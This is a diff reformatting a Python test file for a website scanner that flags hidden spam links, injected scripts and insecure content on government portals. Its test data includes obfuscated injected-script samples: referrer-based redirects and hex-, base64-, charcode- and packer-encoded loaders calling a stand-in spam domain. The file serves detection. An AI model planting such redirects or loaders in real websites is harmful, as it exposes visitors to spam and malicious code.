@@ -77,7 +77,7 @@ SCRIPTED = '<script src="/js/jquery.js"></script><script src="/js/common.js"></s
         (f'<div style="display:none">{SPAM}<a href="http://www.xyz-zs.com/">娱乐</a></div>', ["shut"]),
         (f'<DIV STYLE="DISPLAY: none;">{SPAM}</DIV>', ["shut"]),
         (f"<span style='visibility : hidden'>{SPAM}</span>", ["shut"]),
-        (f"<p style=\"display:none !important\">{SPAM}</p>", ["shut"]),
+        (f'<p style="display:none !important">{SPAM}</p>', ["shut"]),
         ('<p>详见<a href="http://www.abc-zs.com/" style="display:none">真人</a></p>', ["shut"]),
         (f'<div style="position:absolute;left:-9999px;top:0">{SPAM}</div>', ["far"]),
         (f'<div id="wz" style="position:fixed; top:-2000em">{SPAM}</div>', ["far"]),
@@ -90,9 +90,18 @@ SCRIPTED = '<script src="/js/jquery.js"></script><script src="/js/common.js"></s
         (f'<marquee height="1" width="4" scrollamount="3000">{SPAM}</marquee>', ["marquee"]),
         (f"<MARQUEE height=0>{SPAM}</MARQUEE>", ["marquee"]),
         ('<p style="background:#fff"><a href="http://www.abc-zs.com/" style="color:#FFFFFF">真人</a></p>', ["colour"]),
-        ('<table><tr><td bgcolor=white><a href="http://www.abc-zs.com/" style="color:#fff">真人</a></td></tr></table>', ["colour"]),
-        (f'<script>document.write("<div style=\'display:none\'>");</script>{SPAM}<script>document.write("</div>");</script>', ["script"]),
-        (f"<script>document.write('<div style=\"position:absolute;left:-999px\">')</script>{SPAM}<script>document.write('<\\/div>')</script>", ["script"]),
+        (
+            '<table><tr><td bgcolor=white><a href="http://www.abc-zs.com/" style="color:#fff">真人</a></td></tr></table>',
+            ["colour"],
+        ),
+        (
+            f'<script>document.write("<div style=\'display:none\'>");</script>{SPAM}<script>document.write("</div>");</script>',
+            ["script"],
+        ),
+        (
+            f"<script>document.write('<div style=\"position:absolute;left:-999px\">')</script>{SPAM}<script>document.write('<\\/div>')</script>",
+            ["script"],
+        ),
         (f'<div class="content"><p>正文</p><div style="display:none">{SPAM}</div></div>{SCRIPTED}', ["shut"]),
         (f'<div style="display:none">{SPAM}</div>' * 2, ["shut", "shut"]),
     ],
@@ -123,7 +132,7 @@ def test_links_that_readers_do_not_see(body: str, said: list[str]) -> None:
         f'<div style="display:none"><a href="/a.html">甲</a>{SPAM}</div>',
         # shown after all
         f'<div style="display:block">{SPAM}</div>',
-        f"<div style=\"text-indent:2em;left:-10px\">{SPAM}</div>",
+        f'<div style="text-indent:2em;left:-10px">{SPAM}</div>',
         f'<div style="overflow:hidden;height:200px">{SPAM}</div>',
         f'<div style="height:1px;line-height:1px">{SPAM}</div>',
         f'<ul style="font-size:0"><li style="font-size:14px">{SPAM}</li></ul>',
@@ -134,7 +143,7 @@ def test_links_that_readers_do_not_see(body: str, said: list[str]) -> None:
         '<p style="background:#fff"><a href="http://www.abc-zs.com/" style="color:#f00">真人</a></p>',
         '<div style="background:#fff"><div class="bar"><a href="http://www.abc-zs.com/" style="color:#fff">某网</a></div></div>',
         '<p style="color:#fff"><a href="http://www.abc-zs.com/">某网</a></p>',
-        f'<script>document.write("<div style=\'display:none\'>加载中</div>")</script>{SPAM}',
+        f"<script>document.write(\"<div style='display:none'>加载中</div>\")</script>{SPAM}",
         # nobody's link
         f"<!-- <div style='display:none'>{SPAM}</div> -->",
         f'<p style="display:none">已下线</p>{SPAM}',
@@ -177,16 +186,45 @@ PACKED = (
         ('<iframe src="http://www.abc-zs.com/" width=0 height=0></iframe>', ["hidden-frame"]),
         ('<iframe src="//www.abc-zs.com/" width="1" height="1" frameborder="0"></iframe>', ["hidden-frame"]),
         ('<iframe src="http://www.abc-zs.com/" style="display:none"></iframe>', ["hidden-frame"]),
-        ('<script>var regexp=/\\.(sogou|soso|baidu|google)(\\.[a-z0-9\\-]+){1,2}\\//ig;var where=document.referrer;if(regexp.test(where)){window.location.href="http://www.abc-zs.com/1.html"}</script>', ["redirect"]),
-        ('<script>if(document.referrer.indexOf("baidu.com")>0){document.write(\'<script src="http://www.abc-zs.com/t.js"><\\/script>\')}</script>', ["redirect"]),
-        ('<script>var s=["\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72","\\x68\\x74\\x74\\x70\\x3A\\x2F\\x2F\\x77\\x77\\x77\\x2E\\x61\\x62\\x63\\x2D\\x7A\\x73\\x2E\\x63\\x6F\\x6D\\x2F"];var r=/\\.(sogou|baidu)\\./i;if(r.test(document[s[0]])){window["location"]["href"]=s[1]}</script>', ["redirect"]),
-        ('<script>document.write(unescape("%3Cscript src=\'http://www.abc-zs.com/x.js\'%3E%3C/script%3E"));</script>', ["script?"]),
-        ('<script>document.write(unescape("%3Cscript src=\'%68%74%74%70://%77.abc%2d%7as.com/x.js\'%3E%3C/script%3E"));</script>', ["veil"]),
-        ('<script>var s=document.createElement("script");s.async=true;s.src="//www.abc-zs.com/x.js";document.body.appendChild(s)</script>', ["script?"]),
-        ('<script>eval(String.fromCharCode(108,111,99,97,116,105,111,110,46,104,114,101,102,61,34,104,116,116,112,58,47,47,119,46,97,98,99,45,122,115,46,99,111,109,34))</script>', ["veil"]),
-        ("<script>eval(atob('ZG9jdW1lbnQud3JpdGUoIjxzY3JpcHQgc3JjPSdodHRwOi8vdy5hYmMtenMuY29tL2EuanMnPjwvc2NyaXB0PiIp'))</script>", ["veil"]),
-        ("<script>" + PACKED % ("2.3(\\'<4 5=0://1.abc-zs.6/></4>\\')", 10, 7, "http|w|document|write|script|src|com") + "</script>", ["veil"]),
-        ('<script>eval(unescape(window.k))</script>', ["veiled-script"]),
+        (
+            '<script>var regexp=/\\.(sogou|soso|baidu|google)(\\.[a-z0-9\\-]+){1,2}\\//ig;var where=document.referrer;if(regexp.test(where)){window.location.href="http://www.abc-zs.com/1.html"}</script>',
+            ["redirect"],
+        ),
+        (
+            '<script>if(document.referrer.indexOf("baidu.com")>0){document.write(\'<script src="http://www.abc-zs.com/t.js"><\\/script>\')}</script>',
+            ["redirect"],
+        ),
+        (
+            '<script>var s=["\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72","\\x68\\x74\\x74\\x70\\x3A\\x2F\\x2F\\x77\\x77\\x77\\x2E\\x61\\x62\\x63\\x2D\\x7A\\x73\\x2E\\x63\\x6F\\x6D\\x2F"];var r=/\\.(sogou|baidu)\\./i;if(r.test(document[s[0]])){window["location"]["href"]=s[1]}</script>',
+            ["redirect"],
+        ),
+        (
+            "<script>document.write(unescape(\"%3Cscript src='http://www.abc-zs.com/x.js'%3E%3C/script%3E\"));</script>",
+            ["script?"],
+        ),
+        (
+            "<script>document.write(unescape(\"%3Cscript src='%68%74%74%70://%77.abc%2d%7as.com/x.js'%3E%3C/script%3E\"));</script>",
+            ["veil"],
+        ),
+        (
+            '<script>var s=document.createElement("script");s.async=true;s.src="//www.abc-zs.com/x.js";document.body.appendChild(s)</script>',
+            ["script?"],
+        ),
+        (
+            "<script>eval(String.fromCharCode(108,111,99,97,116,105,111,110,46,104,114,101,102,61,34,104,116,116,112,58,47,47,119,46,97,98,99,45,122,115,46,99,111,109,34))</script>",
+            ["veil"],
+        ),
+        (
+            "<script>eval(atob('ZG9jdW1lbnQud3JpdGUoIjxzY3JpcHQgc3JjPSdodHRwOi8vdy5hYmMtenMuY29tL2EuanMnPjwvc2NyaXB0PiIp'))</script>",
+            ["veil"],
+        ),
+        (
+            "<script>"
+            + PACKED % ("2.3(\\'<4 5=0://1.abc-zs.6/></4>\\')", 10, 7, "http|w|document|write|script|src|com")
+            + "</script>",
+            ["veil"],
+        ),
+        ("<script>eval(unescape(window.k))</script>", ["veiled-script"]),
     ],
 )
 def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
@@ -197,7 +235,7 @@ def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
     "body",
     [
         "<script type=\"text/javascript\">document.write(unescape(\"%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='http://dcs.conac.cn/js/09/000/0000/1/CA09.js' type='text/javascript'%3E%3C/script%3E\"));</script>",
-        "<script>var cnzz_protocol=((\"https:\"==document.location.protocol)?\"https://\":\"http://\");document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript src='\"+cnzz_protocol+\"s11.cnzz.com/stat.php%3Fid%3D1' type='text/javascript'%3E%3C/script%3E\"));</script>",
+        '<script>var cnzz_protocol=(("https:"==document.location.protocol)?"https://":"http://");document.write(unescape("%3Cspan id=\'cnzz_stat_icon_1\'%3E%3C/span%3E%3Cscript src=\'"+cnzz_protocol+"s11.cnzz.com/stat.php%3Fid%3D1\' type=\'text/javascript\'%3E%3C/script%3E"));</script>',
         '<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?1";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();</script>',
         '<script id="_jiucuo_" sitecode="3303000021" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>',
         '<script src="http://pucha.kaipuyun.cn/exposure/jiucuo.js"></script><script src="//api.map.baidu.com/api?v=2.0&ak=1"></script>',
@@ -207,13 +245,13 @@ def test_code_that_strangers_put_there(body: str, said: list[str]) -> None:
         '<meta http-equiv="refresh" content="0;url=http://www.gov.cn/">',
         '<script>var i=new Image();i.src="http://www.abc-zs.com/1.gif";document.createElement("div")</script>',
         '<script>if(document.referrer==""){location.href="http://www.qingping.gov.cn/"}</script>',
-        '<script>var k=/baidu|sogou/.exec(document.referrer);if(k){highlight(k)}</script>',
+        "<script>var k=/baidu|sogou/.exec(document.referrer);if(k){highlight(k)}</script>",
         '<script>if(/Android|iPhone/.test(navigator.userAgent)){location.href="http://m.qingping.gov.cn/"}</script>',
         "<script>var e=unescape('%E6%B5%8B');alert(e)</script>",
         "<script>document.write(unescape('%3Ca href=%22mailto:a@qingping.gov.cn%22%3E'))</script>",
         "<script>" + PACKED % ("$.0(1)", 10, 2, "show|fast") + "</script>",
         "<!-- <script src='http://www.abc-zs.com/a.js'></script><script>eval(unescape('%61'))</script> -->",
-        '<p>document.referrer 与 eval( 的说明</p>',
+        "<p>document.referrer 与 eval( 的说明</p>",
     ],
 )
 def test_code_of_the_site_and_of_known_services(body: str) -> None:
@@ -224,10 +262,16 @@ def test_code_of_the_site_and_of_known_services(body: str) -> None:
     ("body", "said"),
     [
         ('<p><a href="https://item.jd.com/1.html">购买</a></p>', ["default"]),
-        ('<p><a href="https://s.click.taobao.com/x">购买</a><a href="https://detail.tmall.com/1">详情</a></p>', ["advertising", "default"]),
+        (
+            '<p><a href="https://s.click.taobao.com/x">购买</a><a href="https://detail.tmall.com/1">详情</a></p>',
+            ["advertising", "default"],
+        ),
         ('<p><a href="http://www.abc-zs.com/?cpc=12">广告</a></p>', ["promotion"]),
         ('<p><a href="https://sf.taobao.com/item/1.htm">司法拍卖</a></p>', []),
-        ('<p><a href="https://mp.weixin.qq.com/s/1">公众号</a><a href="https://map.baidu.com/?q=1">地图</a><a href="https://www.zhaopin.com/">招聘</a></p>', []),
+        (
+            '<p><a href="https://mp.weixin.qq.com/s/1">公众号</a><a href="https://map.baidu.com/?q=1">地图</a><a href="https://www.zhaopin.com/">招聘</a></p>',
+            [],
+        ),
         ('<p><a href="http://www.notjd.com/">某网</a><a href="http://www.jd.gov.cn/">某区</a></p>', []),
         ("<!-- <a href='https://www.jd.com/'>京东</a> -->", []),
     ],
@@ -247,7 +291,10 @@ def test_a_page_about_shops_is_left_open() -> None:
         ('<a href="http://222.73.1.5:8080/a">系统</a><a href="http://222.73.1.5/b">系统</a>', ["number"]),
         ('<a href="http://xn--80ak6aa92e.com/">某网</a>', ["punycode"]),
         ('<a href="http://www.abc-zs.top/">某网</a><a href="http://a.vip/">某网</a>', ["ending", "ending"]),
-        ('<a href="http://xn--fiq228c.xn--zfr164b/">政务</a><a href="http://中国政府网.政务/">政务</a><a href="http://xn--55qw42g.xn--fiqs8s/">公益</a>', []),
+        (
+            '<a href="http://xn--fiq228c.xn--zfr164b/">政务</a><a href="http://中国政府网.政务/">政务</a><a href="http://xn--55qw42g.xn--fiqs8s/">公益</a>',
+            [],
+        ),
         ('<a href="http://topnews.com.cn/">某网</a><a href="http://www.cc.gov.cn/">某县</a>', []),
         ('<a href="http://192.168.1.1/">内网</a>', []),
     ],
@@ -269,13 +316,29 @@ HTTPS = '<link rel="canonical" href="https://www.qingping.gov.cn/zwgk/tzgg/t1.ht
     ("body", "head", "said"),
     [
         ('<script src="http://dcs.conac.cn/a.js"></script>', HTTPS, ["script"]),
-        ('<img src="http://www.qingping.gov.cn/i/1.png"><iframe src="http://v.qq.com/1"></iframe>', HTTPS, ["image", "frame"]),
-        ('<script src="http://dcs.conac.cn/a.js"></script><a href="https://www.qingping.gov.cn/">首页</a>', "", ["script"]),
+        (
+            '<img src="http://www.qingping.gov.cn/i/1.png"><iframe src="http://v.qq.com/1"></iframe>',
+            HTTPS,
+            ["image", "frame"],
+        ),
+        (
+            '<script src="http://dcs.conac.cn/a.js"></script><a href="https://www.qingping.gov.cn/">首页</a>',
+            "",
+            ["script"],
+        ),
         ('<script src="http://dcs.conac.cn/a.js"></script><a href="http://www.qingping.gov.cn/">首页</a>', "", []),
-        ('<script src="http://dcs.conac.cn/a.js"></script><a href="http://www.qingping.gov.cn/">甲</a><a href="https://www.qingping.gov.cn/a/">乙</a>', "", ["scheme"]),
+        (
+            '<script src="http://dcs.conac.cn/a.js"></script><a href="http://www.qingping.gov.cn/">甲</a><a href="https://www.qingping.gov.cn/a/">乙</a>',
+            "",
+            ["scheme"],
+        ),
         ('<script src="http://dcs.conac.cn/a.js"></script>', "", ["scheme"]),
         ('<a href="http://www.gov.cn/">中国政府网</a><script src="//dcs.conac.cn/a.js"></script>', HTTPS, []),
-        ('<script src="http://dcs.conac.cn/a.js"></script>', HTTPS + '<meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests">', []),
+        (
+            '<script src="http://dcs.conac.cn/a.js"></script>',
+            HTTPS + '<meta http-equiv="Content-Security-Policy" content="upgrade-insecure-requests">',
+            [],
+        ),
         ('<script src="http://dcs.conac.cn/a.js"></script>', HTTPS.replace("https", "http"), []),
         ('<p style="background:url(http://www.abc.com.cn/1.png)">甲</p>', HTTPS, ["image"]),
     ],
@@ -298,13 +361,24 @@ OUT = '<p><a href="http://www.abc-zs.com/">某网</a></p>'
     [
         (OUT, ["default"]),
         (OUT + '<a href="http://www.xyz-zs.com/">另一网</a>', ["several"]),
-        (OUT + '<script src="/js/jquery-1.12.4.min.js"></script><script src="https://hm.baidu.com/hm.js?1"></script>', ["default"]),
+        (
+            OUT
+            + '<script src="/js/jquery-1.12.4.min.js"></script><script src="https://hm.baidu.com/hm.js?1"></script>',
+            ["default"],
+        ),
         (OUT + '<script src="/js/common.js"></script>', ["handler-in-script"]),
-        (OUT + "<script>$('a').click(function(){return confirm('您访问的链接即将离开“青屏市人民政府”门户网站，是否继续？')})</script>", []),
+        (
+            OUT
+            + "<script>$('a').click(function(){return confirm('您访问的链接即将离开“青屏市人民政府”门户网站，是否继续？')})</script>",
+            [],
+        ),
         (OUT + '<div id="golink">您访问的链接即将离开<br><span>“青屏市人民政府”网</span><br>是否继续？</div>', []),
         (OUT + "<script>outlink('www.qingping.gov.cn')</script><script>function leaveSite(a){}</script>", []),
         ('<a href="http://www.abc-zs.com/" onclick="return confirm(\'继续？\')">某网</a>', []),
-        ('<a href="http://www.gov.cn/">中国政府网</a><a href="//bszs.conac.cn/sitename?method=show">标识</a><a href="/a.html">甲</a>', []),
+        (
+            '<a href="http://www.gov.cn/">中国政府网</a><a href="//bszs.conac.cn/sitename?method=show">标识</a><a href="/a.html">甲</a>',
+            [],
+        ),
         ('<a href="http://beian.miit.gov.cn/">备案</a><a href="http://xxgk.qingping.gov.cn/">公开</a>', []),
         ('<img src="http://www.abc-zs.com/1.png">', []),
         (OUT.replace("某网", "考生离开考场"), ["default"]),
@@ -345,7 +419,9 @@ def test_a_sites_own_domain() -> None:
         rule = RULES["LNK017"]
         reader = Reader(Resolver(frozenset()), None, ((rule, CHECKS[rule.check]),), {})
         record = reader.read("index.html", page.format(head="", body="", title="青屏市人民政府").encode())
-        assert [*(found.variant for found in record.findings), *(entry.reason for entry in record.unjudged)] == said, value
+        assert [*(found.variant for found in record.findings), *(entry.reason for entry in record.unjudged)] == said, (
+            value
+        )
 
 
 def test_several_own_domains_are_mixed() -> None:
